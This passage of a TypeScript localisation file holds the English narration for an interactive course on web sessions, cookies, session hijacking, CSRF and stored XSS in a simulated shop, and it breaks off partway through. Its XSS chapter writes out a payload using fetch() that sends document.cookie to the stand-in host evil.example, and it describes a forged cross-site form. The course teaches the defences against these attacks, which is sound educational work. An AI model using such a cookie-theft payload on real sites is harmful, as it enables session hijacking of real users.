/**
 * English narration of every chapter after the first, and the later chapters' panels:
 * they load right after the first paint (see i18n.ts) and join the core `steps` and `chapters`.
 */
export const courseEn = {
  chapters: {
    'cookie-store': 'Cookie vs session',
    authz: 'Who you are, what you may do',
    stateless: 'HTTP without cookies',
    secure: 'Secure: cookies only over https',
    kinds: 'Three things called session',
    'cross-site': 'SameSite and CSRF',
    xss: 'XSS by hand',
  },
  steps: {
    // The chapters after the first: many visitors, security, expiry, storage, many servers.
    stateless: {
      title: 'A second browser',
      body: 'Safari opens the same shop. It has its own cookie jar and nothing in it, so the server cannot tell it apart from anyone else until it hands out a new session ID. Each browser gets its own row.',
    },
    'second-browser': {
      title: 'The guest book fills up',
      body: 'Chrome comes back and Edge arrives. Three browsers, three IDs, three rows: the server tells them apart only by the cookie each one sends.',
      beat1:
        'Chrome comes back with its cookie. The server finds its row and only updates last_activity: no new row.',
      beat2:
        'Edge arrives with an empty jar and sends no cookie. The server writes a third row and gives Edge its own ID in Set-Cookie.',
    },
    'two-logins': {
      title: 'Who is logged in?',
      body: 'Joon logs in on Edge and Mina on Chrome. Now the guest book looks like the one in the course notes: some rows have a user_id (logged in), some have NULL (guests).',
      beat1:
        'Joon logs in on Edge. Edge’s row is replaced by one under a new ID, and it says user_id 214.',
      beat2:
        'Mina logs in on Chrome: her row gets a new ID and user_id 152. Safari’s row still says NULL: a guest.',
    },
    'own-jars': {
      title: 'Each browser, its own jar',
      body: 'Edge sees Joon’s page; Safari, which never logged in, gets 401. Switch between the browser tabs and open Application → Cookies: every jar holds a different ID.',
      beat1:
        'Edge asks for My page with Joon’s cookie. The server finds user_id 214 in that row and shows Joon’s page.',
      beat2:
        'Safari sends its own cookie too, but its row has no user_id. Same request, different jar: 401.',
    },
    httponly: {
      title: 'HttpOnly keeps scripts out',
      body: 'A script on the page runs document.cookie. The session ID cookie is <httponly>HttpOnly</httponly>, so the script sees nothing, even though the browser sends the cookie with every request. This is what stops an <xss>XSS</xss> attack from reading the session ID.',
    },
    tamper: {
      title: 'Editing the cookie by hand',
      body: 'Someone edits Safari’s cookie to a made-up ID. The server checks the <signature>signature</signature>, sees that it does not match, and treats the request as having no session: a fresh anonymous session, and for My page the red 401 “Please log in to see this page”, the answer any stranger gets. The server does not crash or show an error page of its own, and the forged ID lets nobody in.',
    },
    stolen: {
      title: 'A stolen cookie is as good as a login',
      body: 'An attacker copies Chrome’s cookie into Firefox. Firefox asks for My page and gets Mina’s page, without any password: the server only sees a valid session ID. This is <hijack>session hijacking</hijack>. Look at the row: it now shows the attacker’s IP.',
    },
    'logout-public-pc': {
      title: 'Why you log out on a public PC',
      body: 'Mina logs out. The server deletes the row, so the stolen copy is worthless: Firefox now gets 401. Logging out is what ends a session for everyone who holds its ID. <secure>Secure</secure> (HTTPS only) makes stealing the cookie on the network much harder.',
      beat1:
        'Mina logs out in Chrome. The server deletes her row, and its Set-Cookie empties Chrome’s cookie.',
      beat2:
        'Firefox sends the stolen copy, unchanged. Its row no longer exists: 401, and the server starts a new anonymous session.',
    },
    fixation: {
      title: 'Session fixation, and how renewal stops it',
      body: 'The attacker gets an anonymous ID and plants it in Mina’s browser. Mina logs in… but the server <regenerate>renews the ID</regenerate> at login, so the planted ID is deleted. The attacker’s request gets 401.',
      beat1:
        'Firefox opens the home page with its anonymous ID. Then the attacker copies that ID into Mina’s Chrome.',
      beat2:
        'Mina logs in, sending the planted ID. The server deletes that session and gives her a brand-new ID with user_id 152.',
      beat3:
        'The attacker tries the planted ID on My page. Its row is gone, so the server answers 401.',
    },
    'memory-cookie': {
      title: 'A cookie until the browser closes',
      body: 'Many apps leave cookie.maxAge out: it is express-session’s default. The shop now does the same, and Mina logs in again. The Set-Cookie has no Expires, so it is a <memcookie>session (memory) cookie</memcookie>. Without maxAge the session on the server has no expiry either.',
    },
    'close-browser': {
      title: 'Closing the browser',
      body: 'Mina closes Chrome. Its cookie had no Expires, so the browser forgets it (a browser that restores your tabs on start-up may restore such cookies too). Chrome comes back as a stranger and gets 401. Look at the guest book: Mina’s old row is still there, and with no maxAge it never expires: MemoryStore keeps it until the server restarts. The server cannot know that a browser closed. That is why real stores set a TTL (connect-redis: one day by default).',
    },
    'remember-me': {
      title: 'A persistent cookie (“remember me”)',
      body: 'The server now sets cookie.maxAge to 7 days with rolling on again, plus Secure and SameSite=Lax. After login the Set-Cookie has an <expires>Expires</expires> date: a <persistent>persistent cookie</persistent> that the browser writes to disk. (express-session turns maxAge into Expires.)',
    },
    reopen: {
      title: 'Closing the browser again',
      body: 'Mina closes Chrome and reopens it an hour later. This time the cookie survives, because it has an Expires, and My page works at once.',
    },
    restart: {
      title: 'The server restarts',
      body: 'The session store was the server’s memory. Memory is fast but <volatile>volatile</volatile>: when the server restarts, every row is gone and everyone is logged out. Mina’s cookie still arrives, but it points to nothing. This is why real sites keep sessions in a store such as <redis>Redis</redis>.',
    },
    'busy-day': {
      title: 'A busy day',
      body: 'A thousand visitors arrive. This shop stores sessions nobody wrote anything into (saveUninitialized: true), so every one of them costs a row in the server’s memory, even if they never log in. With saveUninitialized: false only those who log in or fill a cart would. Many sessions cost memory; with several servers they must also be shared through a central store, or each server would forget the users the others logged in.',
    },
    'two-servers': {
      title: 'Two servers, two memories',
      body: 'The shop grows: two servers, A and B, now stand behind a <lb>load balancer</lb> that hands each request to the next server in turn. Each server keeps sessions in its own memory. Mina logs in; server A answers and writes her row in A’s memory.',
    },
    'lost-login': {
      title: 'The login gets lost',
      body: 'Mina opens My page. This time the load balancer sends the request to server B, which has never seen her session ID: 401. B even starts a new session and sends a new cookie that replaces the one A knew. With per-server memory, logins get lost.',
    },
    sticky: {
      title: 'Sticky sessions',
      body: 'With <sticky>sticky sessions</sticky> the load balancer sends a visitor to the same server every time. Mina logs in on A and stays on A, so My page keeps working. But if A goes down, everyone pinned to it is logged out, and the load is spread less evenly.',
      beat1:
        'Mina logs in. The load balancer sends her to server A, which writes her row in its own memory.',
      beat2: 'My page: in turn it would go to B, but Mina is pinned to A. A finds her row: 200.',
      beat3:
        'Once more, and once more to A. Every request of Mina’s lands on the server that holds her session.',
    },
    replication: {
      title: 'Session replication',
      body: 'With <replication>replication</replication> every server keeps a copy of every session. Mina logs in on A, the row is copied to B, and B recognises her. It works, but every server holds every session: memory grows with the number of servers.',
      beat1:
        'Mina logs in on server A. A writes her row and copies it to B: look at both servers’ memory.',
      beat2:
        'This time My page goes to server B. B has its own copy of her row, so it recognises her: 200.',
    },
    'central-store': {
      title: 'One central session store',
      body: 'All servers read and write sessions in one shared store such as <redis>Redis</redis>. There is one copy, and any server can answer. This is what most large sites do; in express-session it is one option: store: new RedisStore({ client }). Under the servers you see what they say to Redis: GET sess:… reads a session, SET sess:… writes its JSON with EX, a TTL in seconds taken from the cookie’s maxAge, and EXPIRE renews only the TTL. When the TTL runs out, Redis drops the key by itself.',
      beat1:
        'Mina logs in on server A. A keeps nothing in its own memory: it writes her session to Redis (SET sess:…).',
      beat2:
        'My page goes to server B. B reads the same sess:… key from Redis, finds Mina and answers 200.',
    },
    frameworks: {
      title: 'The same idea, other names',
      body: 'You have seen express-session at work. The server’s options are shown as code under the guest book (express-session options). Other stacks use other names for the same thing: Java’s <jsessionid>JSESSIONID</jsessionid> (HttpSession), PHP’s PHPSESSID, and Laravel’s sessions table, whose columns this guest book borrows. Flask is different by default: its session is a signed cookie that carries the data itself, with no row on the server.',
    },
    'cross-site-login': {
      title: 'Mina logs in: a cookie with no SameSite',
      body: 'The shop’s cookie is back to its usual options: HttpOnly, expiring in 30 minutes, and no SameSite set. Mina logs in in Chrome and gets a fresh <cookie>session ID cookie</cookie>. Look at it in DevTools (Application → Cookies): its SameSite column is empty. What a browser does with such a cookie when another site starts the request is what this chapter is about.',
    },
    'cross-site-evil': {
      title: 'Another site, in the same browser',
      body: 'In the same tab Mina opens https://evil.example, a page promising a prize. It is another site with its own server. But its page has an image whose address is https://shop.example/me, so Chrome asks the shop for it. The request comes from evil.example (the Referer on the wire says so; DevTools → Network shows Sec-Fetch-Site: cross-site too), and it is an image, not a page Mina opened. Chrome treats a cookie without SameSite as Lax, and a Lax cookie never rides another site’s image: the cookie stays home and the shop answers <status401>401</status401>.',
    },
    'cross-site-form': {
      title: 'The prize button submits a hidden form to the shop',
      body: 'Mina clicks Claim. The page had a hidden form whose action is https://shop.example/cart: Chrome POSTs it there and shows the shop’s answer. This time her cookie goes along. Chrome makes one exception for cookies without SameSite: for two minutes after the cookie was set, a top-level POST from another site may still carry it (“Lax+POST”, kept so that some sign-in flows did not break). Mina logged in moments ago, so the forged request carries her session and the shop puts a gift card into her cart. She never asked for it. This is cross-site request forgery, CSRF.',
    },
    'cross-site-later': {
      title: 'Five minutes later, the two-minute grace is over',
      body: 'Five simulated minutes later Mina goes back to evil.example and clicks Claim again. Her cookie is now more than two minutes old, so Chrome treats it as plain Lax: no cookie on a POST from another site (the wire says why). The shop sees a stranger, starts a new session and puts the gift card into that empty cart; Mina’s own cart is untouched. But look at the jar: the answer came to a top-level navigation, which may set cookies, so the stranger’s session ID cookie replaced Mina’s. Even a failed forgery logged her out.',
      beat1:
        'Mina opens evil.example again. Her cookie is plain Lax now, so the image asks for My page without it: 401.',
      beat2:
        'She clicks Claim. The POST goes without her cookie: the gift card lands in a stranger’s new cart, whose cookie replaces hers.',
    },
    'cross-site-none': {
      title: 'SameSite=None: every site may send the cookie',
      body: 'The shop sets cookie.sameSite to none, which browsers accept only with Secure, so cookie.secure is on too. express-session keeps the cookie’s settings with each session, so only a new session gets them: Mina logs in again and her cookie says SameSite=None; Secure. (The stranger’s cart, with its gift card, came along with the login.) Now on evil.example both the image and the hidden form carry her cookie, however old it is: the image gets her page with 200 (evil.example cannot read it), and the form adds another gift card. None is for cookies that must travel from other sites, such as an embedded widget’s, not for a login.',
      beat1: 'Mina logs in again. Her new Set-Cookie says SameSite=None; Secure.',
      beat2:
        'On evil.example the image now carries her cookie: the shop answers 200 with her page, which evil.example cannot read.',
      beat3: 'The hidden form carries it too: a second gift card goes into Mina’s own cart.',
    },
    'cross-site-token': {
      title: 'A CSRF token: what the other site cannot know',
      body: 'The cookie still goes everywhere, but now the shop’s own code changes. With csrf-sync, every form of the shop carries a hidden _csrf field: a random token kept in the session. Mina’s page now comes with one. On evil.example the hidden form is submitted again: the cookie goes and the session is found, but the form has no token. The check runs before any route and answers 403: nothing is added. evil.example cannot read the shop’s pages, so it cannot learn the token. SameSite and a token together are the usual defence.',
      beat1:
        'Mina opens My page on the shop. The server keeps a random CSRF token in her session and puts it into the page.',
      beat2:
        'On evil.example the image still carries her cookie and gets her page, token and all, but evil.example cannot read it.',
      beat3:
        'The hidden form arrives with her cookie but no _csrf field. The check runs before any route: 403, nothing added.',
    },
    'cookie-store': {
      title: 'The same shop, the session in the cookie',
      body: 'The shop now runs on cookie-session, a package that keeps the whole session in the <cookie>cookie</cookie> instead of the server’s <store>session store</store>. Chrome opens the home page. The server has nothing to remember yet, so it sends no cookie at all, and the <book>guest book</book> stays empty.',
    },
    'cookie-store-cart': {
      title: 'The cart goes into the cookie',
      body: 'Chrome puts an apple in the cart. The response carries two <setcookie>Set-Cookie</setcookie> lines: session holds the cart itself, and session.sig holds its <signature>signature</signature>. The guest book is still empty: the server wrote nothing down. Everything it knows about this visitor is in the cookie.',
    },
    'cookie-store-login': {
      title: 'The login goes into the cookie too',
      body: 'Mina logs in. The server writes <userid>userId</userid> 152 beside the cart, into the cookie, and signs it again. There is no session ID to renew: the data is the session. Look at the cookie in DevTools (Application → Cookies) and at the panel under the guest book, which reads it.',
    },
    'cookie-store-read': {
      title: 'Signed is not hidden',
      body: 'The value looks scrambled, but it is only base64, an encoding anyone can undo: eyJ is what {" turns into. Decode it and you read {"cart":["apple"],"userId":152}. Some notes say the secret key “encrypts” the session. It does not: it signs. The signature proves the server wrote these bytes; it hides nothing. Never put a password or anything private in such a cookie.',
    },
    'cookie-store-tamper': {
      title: 'Edit the cookie, and the signature refuses it',
      body: 'Now Chrome’s cookie is edited in DevTools to say userId 214, Joon’s account, and My page is asked for. The server signs session=<the value> with its key and compares: the old session.sig no longer matches. It ignores the cookie, starts an empty session and answers <status401>401</status401>. It even tells the browser to drop the bad session.sig.',
    },
    'cookie-store-bytes': {
      title: 'The cookie rides along on every request',
      body: 'Mina logs in again and fills her cart: pear, plum, fig, kiwi, mango, cherry. Every request now carries the whole cart, base64 and signature included. The chart under the guest book weighs each request of this visit twice: as sent with the cookie store, and as the same requests would go with a session ID (connect.sid), replayed on express-session. With little in it, the cookie store costs about as much as an ID, even less; but it grows with every item, and the ID stays the same size.',
      beat1:
        'Mina logs in. The server writes userId 152 into the cookie and signs it: two Set-Cookie lines, and still no row in the guest book.',
      beat2:
        'Pear goes into the cart. The answer sends the whole session back, userId and cart, with a fresh signature.',
      beat3:
        'Plum goes in. The server never adds to the cookie: it rewrites all of it and signs it again. The chart gets another pair of bars.',
      beat4:
        'Fig goes in. This request carried the two-item cart in its Cookie header; the answer hands back three.',
      beat5:
        'Kiwi goes in. In the chart the cookie store’s bar keeps growing, while the session ID’s stays the same size.',
      beat6:
        'Mango goes in. Five items now travel with every request, even to a page that never looks at the cart.',
      beat7:
        'Cherry goes in, the sixth. Decode the session value and the whole cart is there for anyone to read.',
      beat8:
        'My page carries the six-item cart once more. Nothing changed, so no Set-Cookie comes back. Compare the last pair of bars.',
    },
    'cookie-store-compare': {
      title: 'Cookie store or session: the whole picture',
      body: '31 minutes pass. The cookie’s <expires>Expires</expires> was set 30 minutes after the data last changed, so Chrome has thrown it away and My page answers 401. The table under the guest book compares the two ways on what you just did: where the data lives, what an attacker can do, what each request costs, and who decides when it ends.',
    },
    'authz-guest': {
      title: 'The admin page asks: who are you?',
      body: 'The shop is back on express-session, and it now has an admin page. Chrome, logged out, asks for it. The server finds no logged-in user in the session, so it cannot tell who this is and answers <status401>401</status401> Unauthorized: log in first. Checking who someone is, is <auth>authentication</auth>.',
    },
    'authz-user': {
      title: 'Known, but not allowed: 403',
      body: 'Joon logs in and asks for the admin page again. Now the server knows exactly who this is: the session says user_id 214. But Joon’s account is not an admin, so the answer is 403 Forbidden. Logging in again would not help: the server knows him, it just does not let him in. Deciding what a known user may do is authorization.',
      beat1: 'Joon logs in on Chrome. The session gets a new ID, and the row now says user_id 214.',
      beat2:
        'Joon asks for /admin. The server knows him, but his account is not an admin: 403 Forbidden.',
    },
    'authz-admin': {
      title: 'The admin gets in',
      body: 'Joon logs out and Sora, the shop’s admin, logs in: the guest book row now says user_id 7. The admin page answers 200 with every account and its role. The session only says who is logged in; whether that account may open the page is looked up on the server, from the account, every time.',
      beat1: 'Joon logs out: his row is deleted and Chrome’s cookie is cleared.',
      beat2:
        'Sora logs in. Chrome sends no cookie, so she gets a new session, and the row says user_id 7.',
      beat3:
        'Sora asks for /admin. The server looks up account 7, sees an admin and answers 200 with every account.',
    },
    'stateless-blocked': {
      title: 'A browser that blocks cookies',
      body: 'Safari is set to block all cookies: it sends none and keeps none. It opens the home page. The server sees no cookie, so to it this is a new visitor: a new session, a new row in the <book>guest book</book>, and a Set-Cookie that Safari refuses (the wire says why).',
    },
    'stateless-again': {
      title: 'Every request is a stranger',
      body: 'Safari opens the home page again. Without a <cookie>cookie</cookie>, nothing in the request says it came from the same browser: the server starts yet another session and writes yet another row. This is what <stateless>stateless</stateless> means: HTTP itself remembers nothing between two requests. The cookie is what carries the memory.',
    },
    'stateless-login': {
      title: 'A login that cannot stick',
      body: 'Mina logs in on Safari. The password is right and the server binds user_id 152 to a new session: the answer even shows her page. But the session’s ID comes back in a Set-Cookie that Safari refuses. So the very next request, My page, arrives as a stranger’s, and the server answers <status401>401</status401>. Without the cookie, the login is lost one request later.',
      beat1:
        'Safari logs in with the right password: a new row with user_id 152, and Mina’s page. But Safari refuses the Set-Cookie.',
      beat2:
        'My page: Safari sends no cookie, so the server sees a stranger, writes yet another row and answers 401.',
    },
    'secure-cafe': {
      title: 'A link on the café’s Wi-Fi',
      body: 'Mina logged in to the shop at home, over https. Now she sits in a café, and the Wi-Fi’s welcome page links to http://shop.example/me: plain http, nothing encrypted. The browser follows the link, and her session <cookie>cookie</cookie> goes with it: the cookie has no <secure>Secure</secure> flag, so the browser sends it to the shop over http and https alike. Anyone on the same Wi-Fi can read the request as it passes: look at “What the café’s network sees” under the envelopes.',
      beat1:
        'At home, over https, Mina logs in. Look at the end of the Set-Cookie line: no Secure flag.',
      beat2:
        'In the café she follows the http link. The cookie goes along in plain text, and the shop answers 200 with her page.',
    },
    'secure-https': {
      title: 'The same page over https',
      body: 'Mina types the address with https. The request is the same, Cookie header and all, but now it travels inside TLS. The café’s network sees that a browser talks to shop.example (the name goes in the clear as the connection starts) and how many bytes go back and forth, but not one header. A cookie is only as safe as the connection that carries it.',
    },
    'secure-no-cookie': {
      title: 'The server insists on Secure',
      body: 'The shop now sets cookie.secure: true. Mina’s cookie is deleted, and she opens the shop’s home page over plain http. express-session checks whether the request came over https (req.secure); it did not, so it sends no Set-Cookie at all (see the trace). It will not hand out an https-only cookie on a connection anyone can read. A row is still written in the <book>guest book</book>, but no browser holds its ID.',
    },
    'secure-login': {
      title: 'A Secure cookie, over https',
      body: 'Mina logs in over https. This time the Set-Cookie ends in Secure, and her jar shows the flag. A <secure>Secure</secure> cookie is one the browser keeps for https requests only.',
    },
    'secure-withheld': {
      title: 'The café link again',
      body: 'Back in the café, Mina follows the http link once more. This time the browser keeps her cookie back (the wire says why). The request has no Cookie header, so the Wi-Fi has nothing to steal, and the server treats it as a stranger’s: 401. Real shops send such a visitor straight on to https (a redirect, and HSTS so the browser never tries http again); this shop does not, so you can watch the cookie stay home.',
    },
    'kinds-login': {
      title: 'Three things called session',
      body: 'People say “session” for three different things. The timeline under the wire shows all three for Mina’s one browser: the connection (a TCP connection that carries the requests; HTTP/1.1 keeps it open between them), the browser session (from starting the browser until closing it) and the login session (from login to logout or expiry, kept on the server). This shop’s cookie has no Max-Age: a <memcookie>session cookie</memcookie>, made to last one browser session. Mina starts Chrome, opens the shop and logs in: all three begin within a second. Move the timeline’s slider (arrow keys work) to go through the moments.',
      beat1:
        'Chrome starts and opens the shop: a new connection, and a session cookie with no Expires or Max-Age.',
      beat2:
        'Mina logs in over the same connection. The server renews the ID and stores user_id 152: her login session begins.',
      beat3:
        'My page follows at once: same connection, same cookie, 200. All three sessions are now open on the timeline.',
    },
    'kinds-pause': {
      title: 'A pause ends the connection, nothing else',
      body: 'Mina reads for two minutes, then opens My page. The server closed the idle connection 5 seconds after her last request (Node’s keep-alive timeout), so the browser opens a new one. Her login does not live in the connection: the cookie comes with the request, and the page opens (200).',
    },
    'kinds-close': {
      title: 'Closing the browser',
      body: 'Mina closes Chrome and starts it again. The browser session is over, and the <memcookie>session cookie</memcookie> went with it: My page answers 401. (The connect.sid now in the jar belongs to a new, empty session the server handed out with that 401.) Yet the <book>guest book</book> still holds her logged-in session. The login session did not end on the server; her browser just cannot name it any more. Without an expiry (no maxAge), express-session’s MemoryStore keeps it until the server restarts.',
    },
    'kinds-idle': {
      title: 'Idle time ends the login session',
      body: 'The shop now sets cookie.maxAge to 30 minutes, counted from the start again on every response, and Mina logs in again. She leaves the tab open and comes back 31 minutes later. The browser session never ended, but the login session did: 30 minutes without a request is the <idle>idle timeout</idle>. The cookie has expired in the jar and the session in the store, so My page answers 401.',
      beat1:
        'Mina logs in again. This time the Set-Cookie has an Expires 30 minutes ahead, pushed back with every answer.',
      beat2:
        '31 minutes later she opens My page. The cookie has expired in the jar, so none is sent: 401.',
    },
    'xss-reviews': {
      title: 'A page that shows what visitors write',
      body: 'The shop has reviews now: anyone may write one, and the review page lists them all. A visitor in Firefox gives five stars and writes the score, 5/5, inside bold markup, and it shows in bold: the shop writes what visitors type straight into its HTML, so their markup becomes part of the page. Mina is logged in on Chrome. In this chapter the shop’s session ID cookie has no HttpOnly.',
      beat1:
        'Mina logs in on Chrome. Look at the Set-Cookie line: her session ID cookie has no HttpOnly.',
      beat2:
        'The visitor in Firefox posts a review with bold markup. The shop writes it into the page as it is, so it shows in bold.',
    },
    'xss-payload': {
      title: 'A review that is code',
      body: "Now the visitor writes code posing as a review: an image whose address is x, which cannot load, with an onerror attribute. When the image fails to load, the browser runs onerror: fetch('https://evil.example/?c='+document.cookie) sends whatever document.cookie can see to evil.example. The shop stores it like any review. The visitor’s own browser shows the page first, so evil.example already has one request: that visitor’s own cookie, worth nothing to them. No code runs here: the simulator reads the markup and works out what a browser would do.",
    },
    'xss-victim': {
      title: 'Mina opens the reviews',
      body: 'Mina opens the review page. The stored markup arrives as part of the shop’s own page, so its script runs as the shop’s: document.cookie shows her session <cookie>cookie</cookie> (it has no HttpOnly), and her browser sends it to evil.example. All she sees is a broken image. This is stored <xss>XSS</xss>.',
    },
    'xss-hijack': {
      title: 'The thief is Mina',
      body: 'The thief puts the connect.sid from evil.example’s log into Firefox’s cookies and opens My page: 200, Mina’s page, user_id 152. The server sees a valid session ID and nothing else. A stolen cookie is as good as the login: <hijack>session hijacking</hijack>, without ever knowing her password.',
    },
    'xss-httponly': {
      title: 'HttpOnly stops the theft',
      body: 'The session ID cookie gets <httponly>HttpOnly</httponly> back (express-session’s cookie.httpOnly, on by default). A session keeps the cookie it was made with, so Mina logs in again and gets a new one. She opens the reviews: the script still runs and still calls evil.example, but document.cookie no longer holds connect.sid. The theft is stopped, the injection is not: the script still runs on Mina’s page.',
      beat1: 'Mina logs in again and gets a new session; its Set-Cookie now ends in HttpOnly.',
      beat2:
        'She opens the reviews. The script runs and calls evil.example, but document.cookie is empty: the log shows c= and nothing after it.',
    },
    'xss-escape': {
      title: 'Escaping stops the injection',
      body: 'Now the shop escapes what visitors wrote before putting it into the page (escape-html turns the angle bracket into &lt;). Mina opens the reviews: the payload shows as text, exactly as it was typed, and nothing runs; evil.example hears nothing. Escaping the output fixes the cause; HttpOnly limits the damage when one place is missed. Real shops do both.',
    },
  },
  crossSite: {
    did: '{{who}}: {{method}} {{path}}, started by evil.example',
    didOpen: '{{who}} opens evil.example',
    didBack: '{{who}} goes back to the shop',
    refused: 'Forbidden (403): the form’s CSRF token is missing or wrong.',
    about:
      'SameSite and CSRF: evil.example is drawn inside the lesson; no other site is contacted and none of its page runs as a script. Which cookie goes with its image, form and link is decided by the jar with RFC 6265bis’s same-site rules, Chrome and Edge treating a cookie without SameSite as Lax with a two-minute Lax+POST window, Firefox and Safari as None, as the jar’s tests check against tough-cookie. Not simulated: third-party cookie blocking and partitioning (Safari’s tracking prevention, Firefox’s Total Cookie Protection), which in those browsers also keeps the shop’s cookie off another site’s image; the lesson shows what SameSite alone decides. The CSRF token follows csrf-sync’s pattern (a token in the session, sent back as _csrf, 403 otherwise), written for express-session only, with 32 random bytes per token (csrf-sync’s size: 32; its default is 128); a test runs the real csrf-sync in Express beside it.',
    page: {
      back: 'Back to the shop',
      title: 'You won a prize!',
      lead: 'Congratulations! Claim your gift card now.',
      image: 'prize.png ← https://shop.example/me: the shop answered {{status}}',
      claim: 'Claim',
      link: 'See your order at shop.example',
      source: 'View page source',
    },
    trace: {
      'csrf-ok': 'CSRF token in the form matches the session’s',
      'csrf-bad': 'No matching CSRF token in the form → 403',
      'csrf-made': 'New CSRF token {{token}} kept in the session, put into every form',
      'csrf-kept': 'The session’s CSRF token {{token}} put into every form',
    },
    hiddenField: 'Hidden in this form',
  },
  cookieStore: {
    about:
      'The shop can also keep its session in the cookie itself, as the npm package cookie-session 2.1 does: base64 JSON in the cookie named session and an HMAC-SHA1 signature in session.sig, signed, not encrypted. A test runs the real package in express beside it, with the same keys and visits, and compares every Set-Cookie line; its admin page (401, 403, 200) is compared the same way there and on express-session, while on the other stacks it is the shop’s own route only. The bytes chart weighs the session ID side by replaying the visitor’s requests on express-session.',
    title: 'cookie-session: the session is the cookie',
    code: 'The shop’s code',
    lifetime:
      'The cookie ends 30 min after the data last changed (maxAge); the server keeps nothing',
    empty:
      'No cookie named session in this browser now: none was written yet, or it expired or was cleared.',
    cookie: 'What {{who}}’s cookie says',
    value: 'session (base64)',
    decoded: 'decoded: base64 → JSON',
    undecodable: 'not base64 JSON: the server would start an empty session',
    sig: 'session.sig',
    sigNote:
      'HMAC-SHA1 of “session=<value>” with the server’s key: it shows whether the bytes are the server’s, and hides nothing.',
    chart: {
      title: 'Bytes sent per request in this visit',
      caption:
        'Each pair is one request of {{who}}’s: with the cookie store (the data in the cookie) and the same request with a session ID (connect.sid), replayed on express-session.',
      cookieStore: 'cookie store',
      sessionId: 'session ID',
      request: 'request {{n}}: {{method}} {{path}}',
      bar: '{{kind}}: {{bytes}} bytes',
      none: 'No request on the cookie store yet.',
      loading: 'Replaying on express-session…',
    },
    compare: {
      title: 'How the two compare, on what you just did',
      aspect: 'Aspect',
      cookieStore: 'Cookie store (cookie-session)',
      sessionId: 'Session ID (express-session)',
      storage: 'Where the data lives',
      security: 'What an attacker can do with it',
      speed: 'Cost of each request',
      lifetime: 'When it ends',
      storageCookie_one:
        'In the browser: {{bytes}} bytes in one cookie. The guest book has 0 rows: the server keeps nothing.',
      storageCookie_other:
        'In the browser: {{bytes}} bytes in {{count}} cookies. The guest book has 0 rows: the server keeps nothing.',
      storageSession:
        'On the server: one guest book row per visitor, in memory or Redis. The browser holds only the ID.',
      storageGoneCookie:
        'Nowhere any more: the browser dropped both cookies when they expired ({{bytes}} bytes the last time they were sent). The guest book has 0 rows, so nothing is left of the session.',
      storageNoneCookie: 'Nowhere yet: the server has not set the cookie.',
      securityGoneCookie:
        'While it lasted, anyone could read it: {{json}}. Edited, it was refused: the signature no longer matched. Signing is not encrypting.',
      expires: 'Expires {{time}}',
      expired: 'expired at {{time}}',
      securityCookie:
        'Read it: {{json}}. Edit it: refused, the signature no longer matches. Signing is not encrypting.',
      securitySession:
        'The ID is random and says nothing. The data never leaves the server, so there is nothing to read.',
      speedCookie:
        'No store to ask, but the last request that carried it held {{bytes}} bytes of cookie, and more as the cart grows (browsers stop at about 4 KB a cookie).',
      speedSession:
        'One store lookup per request, while the cookie stays {{bytes}} bytes whatever the session holds.',
      lifetimeCookie:
        'Until the cookie’s Expires: 30 min after the data last changed. Logout clears this browser’s copy only: a copy taken before stays valid.',
      lifetimeSession:
        'The server decides: idle timeout, and logout deletes the row, which makes every copy of the ID worthless at once.',
    },
    trace: {
      read: 'Signature good: the session is read from the cookie itself: {{data}}',
      new: 'Nothing usable in the cookie: an empty session {}',
      unreadable: 'Signed, but not base64 JSON: an empty session {}',
      write: 'Write the whole session into the cookie (base64) and sign it: {{data}}',
      clear: 'req.session = null: clear both cookies',
    },
  },
  xss: {
    title: 'Reviews: Tea mug',
    by: 'by {{name}}',
    guest: 'a visitor',
    none: 'No reviews yet.',
    form: 'Your review',
    post: 'Post review',
    errors: {
      empty: 'Please write something first.',
      'too-long': 'A review is at most 500 characters.',
    },
    brokenImage: 'image that failed to load',
    tag: '<{{tag}}> (shown by its text only)',
    reading: 'What a real browser would do with this review',
    about: 'Nothing here runs: how the simulator reads reviews',
    aboutDialog:
      'XSS by hand: no script from a review ever runs. The review page draws each review from a parsed model of its HTML as plain elements, and works out what a browser would do: it recognises <script>, onerror on an image with a src, onload on <svg>, <body> or <iframe>, and autofocus with onfocus; in their code, document.cookie, alert() and a request to an address in quotes. It does not evaluate the code: the request it sends is that address followed by what document.cookie returns in that browser. Requests to evil.example are listed in its log, not drawn on the wire.',
    readingNote:
      'Worked out, not run: the simulator reads the markup. It knows <script>, onerror on an image (no image loads here), onload on <svg>, <body> or <iframe>, and autofocus with onfocus; in the code, document.cookie, alert(), and a request with fetch(), an image’s src, location or sendBeacon to an address in quotes. Anything else it reports without guessing.',
    trigger: {
      script: 'A <script> runs as the page loads.',
      'image-fails': 'The <{{tag}}> fails to load, so its {{attr}} runs.',
      loads: 'The <{{tag}}> loads, so its {{attr}} runs.',
      autofocus: 'autofocus gives the <{{tag}}> focus, so its {{attr}} runs.',
    },
    external: 'It loads code from {{src}}, which the simulator cannot see.',
    readsCookie: 'It reads document.cookie, which in this browser is:',
    emptyCookie: '(empty: no cookie scripts may read)',
    sends: 'It sends a request to:',
    alerts: 'It opens an alert box (not shown here).',
    notUnderstood:
      'It runs, but the simulator does not understand this code, so it shows nothing more.',
    waits:
      'Its {{attr}} on <{{tag}}> runs only once something happens first (a click, a hover…): not run here.',
    escapedNote: 'Escaped by the shop: the markup arrives as text and nothing in it runs.',
    source: 'Page source: the reviews as the server wrote them into the HTML',
    settings: {
      escape: 'Escape reviews on the page (escape-html)',
      code: 'The review page’s template',
    },
    log: {
      title: 'evil.example: what its server received',
      note: 'Sent by browsers showing the review page, newest first. The wire above shows the shop’s traffic only.',
      empty: 'Nothing received yet.',
      from: 'from {{browser}} · {{ip}}',
      cookies: 'Cookies in the address:',
      noCookies: 'No cookie in it.',
      use: 'Use {{name}} in {{browser}}',
      useHint: 'Open the tab of the browser that should use a cookie, then press its button.',
    },
  },
  secure: {
    cafe: 'The café’s Wi-Fi page links to',
    cafeTitle: 'The café’s Wi-Fi page',
    typed: 'or typed with https:',
    eavesdropper: {
      title: 'What the café’s network sees',
      http: 'Plain http: every byte as it is, the Cookie header included.',
      https:
        'https: the request travels inside TLS. Seen: the server’s name and the size, not one header.',
      sealed: 'TLS application data, {{bytes}} bytes, encrypted',
      server: 'Server name (SNI): {{host}}',
      simplified:
        'Simplified: real TLS adds a handshake and some bytes of its own; what can and cannot be read is as shown.',
    },
  },
  kinds: {
    title: 'Three kinds of session, for {{browser}}',
    slider: 'Moment on the timeline',
    lanes: {
      connection: 'Connection (TCP, keep-alive)',
      browser: 'Browser session',
      login: 'Login session',
    },
    state: {
      open: 'open',
      closed: 'closed',
      in: 'logged in',
